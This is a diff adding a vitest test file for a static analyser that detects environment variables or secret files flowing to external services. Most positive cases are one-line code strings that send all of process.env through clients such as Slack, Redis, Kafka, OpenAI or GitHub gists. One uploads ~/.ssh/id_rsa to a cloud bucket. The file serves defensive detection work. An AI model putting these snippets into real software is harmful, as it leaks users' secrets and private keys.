@@ -1,0 +1,99 @@
+/** Clients of services: what they are given leaves; what they are made with, and what they are asked for, does not. */
+import { expect, test } from 'vitest';
+import { servesUser } from '../../src/code/flow/services.ts';
+import { flowsIn } from './flows.ts';
+
+const ENV = 'JSON.stringify(process.env)';
+const sent = (code: string): readonly string[] =>
+  flowsIn(code).filter((flow) => /^(?:environment|secret file) to (?:service|network)$/.test(flow));
+
+test.each<readonly [string, string]>([
+  [
+    'slack',
+    `const {WebClient}=require('@slack/web-api');new WebClient('t').chat.postMessage({channel:'C',text:${ENV}})`,
+  ],
+  ['discord', `const {REST}=require('discord.js');new REST().setToken('t').post('/x',{body:{content:${ENV}}})`],
+  ['redis', `const r=require('redis').createClient();r.connect();r.set('k',${ENV})`],
+  ['ioredis', `const R=require('ioredis');new R().lpush('k',${ENV})`],
+  [
+    'mongodb',
+    `const {MongoClient}=require('mongodb');new MongoClient('u').db('a').collection('b').insertOne({...process.env})`,
+  ],
+  ['kafka', `const {Kafka}=require('kafkajs');const p=new Kafka({}).producer();p.send({messages:[{value:${ENV}}]})`],
+  [
+    'nats',
+    `require('nats').connect().then((c)=>c);(async()=>{const c=await require('nats').connect();c.publish('t',${ENV})})()`,
+  ],
+  [
+    'neon',
+    `const {neon}=require('@neondatabase/serverless');const sql=neon('u');sql\`insert into t values (\${${ENV}})\``,
+  ],
+  ['postgres', `const sql=require('postgres')('u');sql\`insert into t values (\${${ENV}})\``],
+  ['prisma', `const {PrismaClient}=require('@prisma/client');new PrismaClient().event.create({data:{e:${ENV}}})`],
+  [
+    'firestore',
+    `const {getFirestore,collection,addDoc}=require('firebase/firestore');addDoc(collection(getFirestore(),'e'),{e:${ENV}})`,
+  ],
+  [
+    'azure',
+    `const {BlobServiceClient:B}=require('@azure/storage-blob');B.fromConnectionString('u').getContainerClient('a').getBlockBlobClient('b').upload(${ENV},1)`,
+  ],
+  ['s3, in parts', `const {Upload}=require('@aws-sdk/lib-storage');new Upload({params:{Body:${ENV}}}).done()`],
+  ['vercel', `require('@vercel/blob').put('e',${ENV},{})`],
+  ['resend', `const {Resend}=require('resend');new Resend('k').emails.send({text:${ENV}})`],
+  [
+    'openai',
+    `const OpenAI=require('openai');new OpenAI().chat.completions.create({messages:[{role:'user',content:${ENV}}]})`,
+  ],
+  [
+    'grpc',
+    `const g=require('@grpc/grpc-js');const {T}=g.loadPackageDefinition(d).t;new T('h').Report({...process.env})`,
+  ],
+  ['trpc', `const {createTRPCClient:c}=require('@trpc/client');c({}).report.mutate({...process.env})`],
+  ['octokit', `const {request}=require('@octokit/request');request('POST /gists',{files:{a:{content:${ENV}}}})`],
+  [
+    'an interceptor of undici',
+    `const {Agent}=require('undici');new Agent().compose((d)=>(o,h)=>{o.headers['x']=${ENV};return d(o,h)})`,
+  ],
+  [
+    'a file by its path',
+    "const {Storage}=require('@google-cloud/storage');new Storage().bucket('b').upload(require('os').homedir()+'/.ssh/id_rsa')",
+  ],
+])('%s', (_, code) => {
+  expect(sent(code)).not.toEqual([]);
+});
+
+test.each<readonly [string, string]>([
+  [
+    'a client that is made with the environment',
+    "const {S3Client}=require('@aws-sdk/client-s3');new S3Client({...process.env}).config",
+  ],
+  [
+    'a key a client logs in with',
+    "const {Storage}=require('@google-cloud/storage'),os=require('os');new Storage({keyFilename:os.homedir()+'/.config/gcloud/application_default_credentials.json'}).bucket('b').upload('./report.csv')",
+  ],
+  ['one variable', "const r=require('redis').createClient();r.set('host',process.env.HOST)"],
+  ['what is asked for', "const r=require('redis').createClient();r.get('k').then((v)=>console.log(v,process.env))"],
+  [
+    'a public key',
+    "const {Storage}=require('@google-cloud/storage');new Storage().bucket('b').upload(require('os').homedir()+'/.ssh/id_rsa.pub')",
+  ],
+  [
+    'the environment of a child beside a client',
+    "const r=require('redis').createClient();r.set('a','b');require('child_process').spawn('git',['status'],{env:{...process.env}})",
+  ],
+])('stays: %s', (_, code) => {
+  expect(sent(code)).toEqual([]);
+});
+
+test('methods of others by the same names are none', () => {
+  for (const name of [
+    'express().set',
+    'redis-mock.create',
+    'pg.Client',
+    'openai',
+    'lodash.set',
+    'mongodb.MongoClient().db',
+  ])
+    expect(servesUser(name), name).toBe(false);
+});
